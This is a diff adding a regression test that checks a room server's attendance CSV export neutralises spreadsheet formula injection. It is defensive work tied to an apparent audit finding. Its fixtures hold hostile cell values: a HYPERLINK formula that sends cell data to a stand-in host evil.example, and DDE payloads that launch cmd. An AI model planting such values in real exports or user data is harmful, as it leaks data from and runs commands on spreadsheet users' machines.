@@ -113,3 +113,39 @@ async def test_a_room_whose_time_ran_out_while_empty_is_ended_at_the_next_join(s
     assert b.ws.close_code == 4410
     status, att = await server.rest("GET", f"/v1/rooms/{room_id}/attendance")
     assert status == 200 and att["ended_at"] is not None and [r["identity"] for r in att["participants"]] == ["a"]
+
+
+async def test_attendance_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(server: Server) -> None:
+    """Finding 9: a name like =HYPERLINK(...) was written as it is and ran in the spreadsheet."""
+    room_id = await server.create_room(guest_policy="ALWAYS_ACCEPT")
+    evil = {
+        "e1": ('=HYPERLINK("http://evil.example/?"&A2,"Нажмите")', "+cmd|' /C calc'!A0", "@SUM(1+1)"),
+        "e2": ("-2+3", "\t=1+1", "\r=1+1"),
+        "ok": ("Анна-Мария Петрова", "Петрова", "Анна-Мария"),
+    }
+    for identity, (name, family, given) in evil.items():
+        await server.join(room_id, identity, name=name, family_name=family, given_name=given)
+    await server.join(room_id, "=cmd|'/C calc'!A0", name="x")  # the identity is text from the token too
+
+    async with server.http.get(server.base + f"/v1/rooms/{room_id}/attendance?format=csv",
+                               headers=server.admin) as resp:
+        assert resp.status == 200
+        raw = await resp.read()
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    by_id = {r[0]: r for r in rows[1:]}
+    assert by_id["'=cmd|'/C calc'!A0"][1] == "x"
+    for identity, (name, family, given) in evil.items():
+        row = by_id[identity]
+        cells = row[1:4]
+        if identity == "ok":
+            assert cells == [name, family, given]
+            continue
+        assert cells == ["'" + name, "'" + family, "'" + given]
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+        assert row[5] in ("True", "False") and float(row[8]) >= 0  # numbers stay numbers
+
+    status, att = await server.rest("GET", f"/v1/rooms/{room_id}/attendance")  # JSON: as they are
+    assert status == 200
+    assert {r["identity"]: r["name"] for r in att["participants"]}["e1"] == evil["e1"][0]
